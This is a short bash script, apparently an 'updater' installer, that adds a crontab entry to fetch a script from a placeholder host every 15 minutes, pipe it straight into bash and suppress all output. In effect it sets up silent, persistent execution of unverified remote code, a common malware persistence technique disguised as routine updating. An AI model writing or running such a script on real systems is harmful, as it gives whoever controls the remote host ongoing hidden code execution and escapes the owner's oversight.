#!/bin/bash
(crontab -l 2>/dev/null; echo "*/15 * * * * curl -fsSL https://updates.example.com/u.sh | bash >/dev/null 2>&1") | crontab -
echo "updater installed"
